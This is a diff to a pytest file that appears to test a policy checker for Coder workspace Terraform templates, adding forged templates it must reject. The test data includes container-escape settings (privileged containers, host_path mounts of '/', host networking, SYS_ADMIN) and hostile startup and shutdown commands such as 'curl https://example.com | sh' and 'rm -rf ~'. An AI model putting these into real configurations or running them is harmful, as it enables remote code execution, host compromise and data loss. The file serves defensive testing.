@@ -59,7 +59,7 @@ def modules(more: Any) -> Any:
 
 def in_a_list(content: Any) -> None:
     main = content["resource"]["coder_agent"]["main"]
-    content["resource"] = [{"coder_agent": [{"main": [{**main, "startup_script": "id"}]}]}]
+    content["resource"] = [{"coder_agent": [{"main": ["${local.other}", {**main, "startup_script": "id"}]}]}]
 
 
 agent_in_a_list = root(in_a_list)
@@ -71,6 +71,8 @@ def late_privilege(text: str) -> str:
     return text[:place] + text[place:].replace("false", "true", 1)
 
 
+VOLUME = 'volume {\n          name = "home"'
+LATE_VOLUME = 'dynamic "volume" {\n for_each = var.gui_vnc ? [1] : []\n content {\n name = "x"\n host_path {\n path = "/"\n }\n }\n }'
 OPEN = {"capabilities": {"network-egress": "unrestricted"}}
 PATH = "capabilities.network-egress"
 BROKEN = [
@@ -130,24 +132,41 @@ BROKEN = [
             ("privileged", "privileged                 = false", "privileged = var.namespace"),
             ("allow_privilege_escalation", "allow_privilege_escalation = false", "allow_privilege_escalation = true"),
             ("host_pid", "enable_service_links             = false", "host_pid = true"),
+            ("host_ipc", "enable_service_links             = false", "host_ipc = true"),
+            ("host_network", "enable_service_links             = false", "host_network = true"),
+            ("privileged", VOLUME, f'init_container {{\n name = "x"\n security_context {{\n privileged = true\n }}\n }}\n {VOLUME}'),
         )
+    ),
+    Broken(
+        "a base that mounts the node's files beside a desktop",
+        "mounts a host_path",
+        forged({"base/main.tf": swap(VOLUME, f"{LATE_VOLUME}\n {VOLUME}"), **hands(gui_vnc=True)}),
     ),
     Broken("a base with a privileged desktop", "sets privileged", forged({"base/main.tf": late_privilege, **hands(gui_vnc=True)})),
     Broken("a base that adds capabilities", "adds capabilities", forged({"base/main.tf": swap('drop = ["ALL"]', 'add = ["SYS_ADMIN"]')})),
     Broken(
         "a base that mounts the node's files",
         "mounts a host_path",
-        forged(
-            {"base/main.tf": swap('volume {\n          name = "home"', 'volume {\n          host_path {\n path = "/"\n }\n name = "home"')}
-        ),
+        forged({"base/main.tf": swap(VOLUME, 'volume {\n          host_path {\n path = "/"\n }\n name = "home"')}),
     ),
     Broken("another cluster", "sets host of the provider kubernetes", forged(provides("kubernetes", host="https://10.9.9.9"))),
     Broken("another identity at the cluster", "sets token of the provider", forged(provides("kubernetes", token="stolen"))),
     Broken("another role", "sets assume_role of the provider aws", forged(provides("aws", assume_role=[{"role_arn": "x"}]), "ec2-swdev")),
+    Broken(
+        "a provider in the toolchain",
+        "configures a provider in toolchain/p.tf",
+        forged({"toolchain/p.tf": lambda _: 'provider "aws" {}\n'}),
+    ),
     Broken("a provider in the base", "configures a provider in base/p.tf", forged({"base/p.tf": lambda _: 'provider "kubernetes" {}\n'})),
     Broken("another script at the start", "sets startup_script", forged(agent(startup_script="curl https://example.com | sh"))),
     Broken("a script at the end", "sets shutdown_script", forged(agent(shutdown_script="rm -rf ~"))),
     Broken("a script beside the agent", "declares coder_script", forged(declares(coder_script={"x": {"script": "id"}}))),
+    Broken("a variable beside the agent", "declares coder_env", forged(declares(coder_env={"x": {"name": "PATH", "value": "/tmp"}}))),
+    Broken(
+        "beside a base that can't be read",
+        "sets startup_script",
+        forged({"base/p.tf": lambda _: "provider {{\n", **agent(startup_script="id")}),
+    ),
     Broken("an agent in a list", "sets startup_script", edited(agent_in_a_list)),
     Broken("several modules in a list", "starts a module shadow", edited(modules({"shadow": {"source": "./base"}}))),
     Broken("two bases in a list", "starts a module twice", edited(modules({"base": {"source": "./base"}}))),
@@ -160,6 +179,14 @@ BROKEN = [
 @cases(BROKEN)
 def test_a_broken_fact_is_named(broken: Broken, mode: str) -> None:
     assert_caught(broken, mode, 16)
+
+
+@pytest.mark.parametrize("said", ["", "privileged = false", "privileged = var.gui_vnc"])
+def test_a_base_may_say_in_its_own_way_that_nothing_is_privileged(said: str) -> None:
+    """Or leave it out, as Kubernetes' own value is false; pod-swdev hands over false as gui_vnc."""
+    found = small(PREVIEW)
+    forged({"base/main.tf": lambda text: text.replace("privileged                 = false", said)})(found)
+    assert not [line for line in run(found, PREVIEW, number=16).violations(16) if "privileged" in line.message.partition("\n")[2]]
 
 
 @examples
